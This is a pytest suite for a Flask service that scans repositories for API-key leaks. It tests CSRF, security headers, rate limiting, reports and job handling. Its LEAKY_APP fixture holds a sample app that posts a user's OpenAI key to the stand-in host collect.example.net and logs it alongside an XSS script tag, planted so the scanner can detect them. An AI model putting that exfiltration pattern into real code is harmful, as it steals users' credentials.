"""The web site with Flask's test client, fetching from a fake forge on 127.0.0.1."""
from __future__ import annotations

import re
import threading
import time
from urllib.parse import parse_qs, urlsplit

import pytest

from fake_forge import serve_github, settings_for
from trustcheck.app import create_app
from trustcheck.engine.pipeline import ENGINE_VERSION
from trustcheck.forges import parse_target
from trustcheck.web.database import Database
from trustcheck.web.jobs import JobManager
from trustcheck.web.store import ReportKey, SQLiteReportStore

SHA = "c0ffee0123456789abcdef0123456789abcdef01"
OTHER_SHA = "d0ffee0123456789abcdef0123456789abcdef02"
LEAKY_APP = {
    "app.py": "import logging\nimport requests\nimport streamlit as st\n\n"
              "key = st.text_input('OpenAI API key', type='password')\n"
              "logging.info('key=%s <script>alert(1)</script>', key)\n"
              "requests.post('https://collect.example.net/k', json={'k': key})\n",
    "README.md": "# A demo\n",
    "SECURITY.md": "Report privately.\n",
}
CLEAN_APP = {"app.py": "import streamlit as st\nfrom openai import OpenAI\n"
                       "key = st.text_input('OpenAI API key', type='password')\nOpenAI(api_key=key)\n"}


@pytest.fixture
def app(forge, codeload, tmp_path):
    settings = settings_for(forge, codeload, scans_per_hour=5)
    app = create_app({"TESTING": True, "TRUSTCHECK_SETTINGS": settings,
                      "TRUSTCHECK_DATABASE": str(tmp_path / "reports.sqlite3")})
    yield app
    app.extensions["trustcheck"]["jobs"].shutdown()


@pytest.fixture
def client(app):
    return app.test_client()


def csrf(client) -> str:
    page = client.get("/").get_data(as_text=True)
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def wait_for(client, status_url: str, seconds: float = 20.0) -> dict:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        job = client.get(status_url).get_json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.05)
    raise AssertionError("the scan did not finish")


def scan_with_form(client, url: str):
    response = client.post("/scan", data={"url": url, "csrf": csrf(client)})
    assert response.status_code == 303
    job_page = response.headers["Location"]
    wait_for(client, "/api/scans/" + job_page.rsplit("/", 1)[1])
    return client.get(job_page)


def test_home_page_has_the_form_and_says_what_it_checks(client):
    page = client.get("/")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert '<label for="url">' in html and 'name="csrf"' in html
    assert "never asks for your key" in html and "may run other code" in html
    assert not re.search(r'(src|href)="(https?:)?//', html)  # nothing from other sites


@pytest.mark.parametrize("path", ["/", "/rules", "/rules/key-in-log-call", "/nope"])
def test_every_page_has_strict_security_headers(client, path):
    headers = client.get(path).headers
    csp = headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "script-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"


def test_form_without_csrf_token_is_refused(client):
    response = client.post("/scan", data={"url": "https://github.com/a/b"})
    assert response.status_code == 400 and b"form expired" in response.data


def test_unsupported_url_gets_a_clear_message(client):
    response = client.post("/scan", data={"url": "https://example.com/x", "csrf": csrf(client)})
    assert response.status_code == 400
    assert b"URL of a public repository" in response.data and b"Traceback" not in response.data


def test_scan_through_the_form_ends_on_the_report_permalink(client, forge, codeload):
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    page = scan_with_form(client, f"{forge.url}/gh/alice/chat")
    assert page.status_code == 303
    report_url = page.headers["Location"]
    assert urlsplit(report_url).path == f"/r/127.0.0.1:{forge.port}/alice/chat/{SHA}"
    html = client.get(report_url).get_data(as_text=True)
    assert "High risk" in html and "collect.example.net" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert(1)" not in html
    assert f"{forge.url}/gh/alice/chat/blob/{SHA}/app.py#L6" in html  # a line at the scanned commit
    assert "security policy" in html


def test_issue_link_is_prefilled_and_fits_the_forge_limit(client, forge, codeload, app):
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    report_url = scan_with_form(client, f"{forge.url}/gh/alice/chat").headers["Location"]
    html = client.get(report_url).get_data(as_text=True)
    link = re.search(r'class="button" href="([^"]+)"', html).group(1).replace("&amp;", "&")
    assert link.startswith(f"{forge.url}/gh/alice/chat/issues/new?title=")
    assert len(link) <= app.extensions["trustcheck"]["settings"].issue_url_limit
    query = parse_qs(urlsplit(link).query)
    assert query["title"] == ["Users' API keys may be sent to a third party and logged"]
    body = query["body"][0]
    assert body.startswith("Hi! Thank you") and f"/blob/{SHA}/app.py#L7" in body and report_url in body


def test_the_report_page_carries_each_visitors_own_form_token(app, client, forge, codeload):
    """The report page is rendered once per stored report; only the token of its "scan the
    newest commit" form differs between visitors, and that form works for each of them."""
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    report_url = scan_with_form(client, f"{forge.url}/gh/alice/chat").headers["Location"]
    other = app.test_client()
    tokens = []
    for visitor in (client, other, client):
        html = visitor.get(report_url).get_data(as_text=True)
        token = re.search(r'name="csrf" value="([^"]+)"', html).group(1)
        assert token == csrf(visitor)  # the same token as on the home page, for this visitor
        tokens.append(token)
    assert tokens[0] == tokens[2] != tokens[1]
    response = other.post("/scan", data={"url": f"{forge.url}/gh/alice/chat", "csrf": tokens[1]})
    assert response.status_code == 303


def test_a_report_stored_again_for_a_commit_is_the_one_shown(app, client, forge, codeload):
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    report_url = scan_with_form(client, f"{forge.url}/gh/alice/chat").headers["Location"]
    assert "High risk" in client.get(report_url).get_data(as_text=True)
    store = app.extensions["trustcheck"]["store"]
    key = ReportKey("github", "alice/chat", SHA, ENGINE_VERSION)
    stored = store.get(key)
    time.sleep(0.01)  # a later time of storing
    store.put(key, {**stored.report, "verdict": "low", "findings": []}, stored.extras)
    assert "Low risk" in client.get(report_url).get_data(as_text=True)


def test_a_commit_already_scanned_is_served_from_the_store(client, forge, codeload):
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    scan_with_form(client, f"{forge.url}/gh/alice/chat")
    downloads = len([p for p in codeload.paths() if p.endswith(SHA)])
    again = scan_with_form(client, f"{forge.url}/gh/alice/chat/")
    assert again.status_code == 303 and SHA in again.headers["Location"]
    assert len([p for p in codeload.paths() if p.endswith(SHA)]) == downloads


def test_json_api_starts_a_scan_and_returns_the_report(client, forge, codeload):
    serve_github(forge, codeload, "bob", "clean", OTHER_SHA, CLEAN_APP)
    response = client.post("/api/scans", json={"url": f"{forge.url}/gh/bob/clean"})
    assert response.status_code == 202
    job = wait_for(client, response.get_json()["status_url"])
    assert job["status"] == "done" and job["report"]["verdict"] == "low"
    assert job["report_url"].endswith(f"/bob/clean/{OTHER_SHA}")
    assert job["report"]["expected_uses"] and not response.headers.get("Set-Cookie")


@pytest.mark.parametrize("body,kwargs,status", [
    ("url=x", {"content_type": "application/x-www-form-urlencoded"}, 415),
    ("[1, 2]", {"content_type": "application/json"}, 400),
    ('{"url": "ftp://nowhere"}', {"content_type": "application/json"}, 400),
])
def test_json_api_rejects_bad_requests_with_json_errors(client, body, kwargs, status):
    response = client.post("/api/scans", data=body, **kwargs)
    assert response.status_code == status and "error" in response.get_json()


def test_unknown_scan_and_report_are_404(client):
    assert client.get("/api/scans/nope").status_code == 404
    assert client.get(f"/r/github.com/a/b/{SHA}").status_code == 404
    assert client.get("/r/github.com/a/b/not-a-sha").status_code == 404


def test_missing_repository_fails_with_its_reason(client, forge):
    response = client.post("/api/scans", json={"url": f"{forge.url}/gh/nobody/nothing"})
    job = wait_for(client, response.get_json()["status_url"])
    assert job["status"] == "failed" and "missing or private" in job["error"]
    page = client.get(f"/scans/{job['id']}")
    assert page.status_code == 404 and b"missing or private" in page.data


def test_new_scans_are_rate_limited_per_client(client, forge):
    statuses = [client.post("/api/scans", json={"url": f"{forge.url}/gh/nobody/r{i}"}).status_code for i in range(7)]
    assert statuses[:5] == [202] * 5 and statuses[5] == 429
    limited = client.post("/api/scans", json={"url": f"{forge.url}/gh/nobody/x"})
    assert int(limited.headers["Retry-After"]) > 0


def test_downloads_and_badge(client, forge, codeload):
    serve_github(forge, codeload, "alice", "chat", SHA, LEAKY_APP)
    report_url = urlsplit(scan_with_form(client, f"{forge.url}/gh/alice/chat").headers["Location"]).path
    assert client.get(report_url + ".json").get_json()["verdict"] == "high"
    assert client.get(report_url + ".sarif").get_json()["version"] == "2.1.0"
    markdown = client.get(report_url + ".md").get_data(as_text=True)
    assert markdown.startswith("# Users' API keys")
    badge = client.get(f"/badge/127.0.0.1:{forge.port}/alice/chat.svg")
    assert badge.mimetype == "image/svg+xml" and b"high risk" in badge.data


def test_two_people_asking_at_once_share_one_job(app, forge, codeload):
    serve_github(forge, codeload, "carol", "app", SHA, LEAKY_APP)
    results = []

    def ask():
        with app.test_client() as client:
            results.append(client.post("/api/scans", json={"url": f"{forge.url}/gh/carol/app"}).get_json()["id"])

    threads = [threading.Thread(target=ask) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with app.test_client() as client:
        for job_id in set(results):
            assert wait_for(client, f"/api/scans/{job_id}")["status"] == "done"
    assert len([p for p in codeload.paths() if p.endswith(SHA)]) == 1


def test_progress_page_works_without_javascript(client, forge, codeload):
    serve_github(forge, codeload, "dave", "slow", SHA, LEAKY_APP)
    response = client.post("/scan", data={"url": f"{forge.url}/gh/dave/slow", "csrf": csrf(client)})
    page = client.get(response.headers["Location"])
    if page.status_code == 200:  # still running: the page refreshes itself
        assert b'http-equiv="refresh"' in page.data and b"Finding the newest commit" in page.data
    else:
        assert page.status_code == 303


class StoredMeanwhile:
    """A store in which another scan of the commit stores its report right after the first
    look finds none: the interleaving of two jobs racing for one commit, made certain."""

    def __init__(self, store: SQLiteReportStore):
        self.store = store
        self.looked = False

    def get(self, key):
        found = self.store.get(key)
        if found is None and not self.looked:
            self.store.put(key, {"verdict": "high", "stored": "meanwhile"}, {})
        self.looked = True
        return found

    def put(self, key, report, extras):
        self.store.put(key, report, extras)


def test_a_report_stored_while_a_job_claims_the_commit_is_not_scanned_again(forge, codeload, tmp_path):
    serve_github(forge, codeload, "erin", "app", SHA, LEAKY_APP)
    database = Database(tmp_path / "site.sqlite3")
    store = StoredMeanwhile(SQLiteReportStore(database))
    jobs = JobManager(settings_for(forge, codeload), store, database)
    try:
        url = f"{forge.url}/gh/erin/app"
        job = jobs.wait(jobs.submit(parse_target(url, jobs.settings), url).id, 20)
        assert job.status == "done"
    finally:
        jobs.shutdown()
    assert not [p for p in codeload.paths() if p.endswith(SHA)]  # no second download
    assert store.get(job.key).report["stored"] == "meanwhile"
